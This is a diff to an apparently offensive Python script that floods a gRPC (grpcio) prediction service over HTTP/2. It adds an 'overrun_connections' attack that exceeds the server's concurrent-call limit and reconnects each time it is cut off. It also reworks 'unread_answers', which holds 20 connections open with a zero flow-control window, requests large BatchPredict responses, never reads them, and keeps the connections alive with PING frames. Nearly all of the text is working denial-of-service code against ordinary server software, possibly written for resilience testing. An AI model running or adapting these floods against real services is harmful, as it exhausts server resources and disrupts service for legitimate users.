@@ -18,6 +18,7 @@ from hostile import PREDICT
 from http2 import (
     END_HEADERS,
     HEADERS,
+    PING,
     RST_STREAM,
     Connection,
     call,
@@ -37,6 +38,8 @@ CONNECTIONS = 1
 AT_ONCE = 8
 # grpcio takes in all that callers send at once, twice, before anything can count it.
 TABLES_AT_ONCE = 4
+# A connection runs 250 calls at once.
+UNREAD_CONNECTIONS, UNREAD_CALLS = 20, 240
 CANCEL = (8).to_bytes(4, "big")
 # A server keeps 4,096 bytes of headers, and takes 8,192 of a call's metadata, as they are sent.
 KEPT_BYTES, REFERENCES = 4000, 3000
@@ -105,14 +108,43 @@ def endless_calls(address: str, request: bytes) -> None:
     flood(address, b"", beginnings, streams=500)
 
 
-def unread_answers(address: str, request: bytes) -> None:
-    """Ask for large answers, and take none of them."""
+def overrun_connections(address: str, request: bytes) -> None:
+    """Make calls faster than the server allows, until it ends the connection, and connect again."""
     data, path = message(request), headers_of(f"{PATH}/BatchPredict")
 
     def calls(numbers: range) -> bytes:
         return b"".join(call(number, path, data) for number in numbers)
 
     flood(address, b"", calls, streams=10)
+
+
+def unread_answers(address: str, request: bytes) -> None:
+    """Ask for large answers on some connections, and take none of them.
+
+    A connection that the server closes is replaced by another one.
+    """
+    data, path = message(request), headers_of(f"{PATH}/BatchPredict")
+    calls = b"".join(call(number, path, data) for number in range(3, 3 + 2 * UNREAD_CALLS, 2))
+    connections: list[Connection] = []
+    while True:
+        if len(connections) < UNREAD_CONNECTIONS:
+            connection = Connection(address, timeout=2)
+            connections.append(connection)
+            say(connection, hello(window=0) + calls)
+            Thread(target=read, args=[connection], daemon=True).start()
+        else:
+            time.sleep(0.05)
+            connections = [each for each in connections if say(each, frame(PING, payload=bytes(8)))]
+
+
+def say(connection: Connection, words: bytes) -> bool:
+    """Say something, unless the server has closed the connection; return whether it is open."""
+    try:
+        connection.send(words)
+    except OSError:
+        connection.socket.close()
+        return False
+    return True
 
 
 def many_tables(address: str, request: bytes) -> None:
